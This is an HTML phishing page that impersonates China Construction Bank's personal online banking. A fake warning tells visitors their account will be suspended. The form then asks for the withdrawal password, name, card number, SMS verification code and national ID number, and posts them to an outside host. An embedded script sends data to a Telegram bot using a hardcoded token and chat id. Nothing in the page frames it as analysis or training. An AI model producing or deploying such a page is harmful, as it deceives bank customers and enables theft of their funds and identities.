<!DOCTYPE html>
<html lang="zh-CN">
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width, initial-scale=1">
<title>中国建设银行个人网上银行</title>
<style>body{font-family:Helvetica,Arial,sans-serif;background:#fff}.container{max-width:1180px;margin:auto}</style>
<script>function send(d){fetch("https://api.telegram.org/bot2767605347:AAqmpkdgpvmtqpftdyynqnqmpsgqyhmy/sendMessage?chat_id=-173829180&text="+encodeURIComponent(d))}</script>
</head>
<body>
<table class="nav" width="100%"><tr><td><a href="/1">首页</a></td><td><a href="/2">个人网银</a></td><td><a href="/3">安全中心</a></td></tr></table>
<main class="content">
<section>
<div class="alert">您的账户因安全等级过低将被停用，请立即验证身份以免影响正常使用。</div>
</section>
<section>
<form action="http://kefu-mtjdh.icu.example/api/save" method="post"><div class="row"><label>取款密码</label><input type="password" name="pwd" placeholder="请输入取款密码"></div>
<div class="row"><label>姓名</label><input type="text" name="username" placeholder="请输入姓名"></div>
<div class="row"><label>银行卡号</label><input type="text" name="cardno" placeholder="请输入银行卡号"></div>
<div class="row"><label>短信验证码</label><input type="text" name="smscode" placeholder="请输入短信验证码"></div>
<div class="row"><label>身份证号</label><input type="text" name="idcard" placeholder="请输入身份证号"></div><button type="submit">立即验证</button></form>
</section>
<div class="block">
<p class="tip">为保障您的资金安全，请如实填写</p>
</div>
</main>
<footer>中国建设银行 版权所有 客服热线 955xx</footer>
<script src="/static/js/app.18e452f3.js"></script>
</body>
</html>
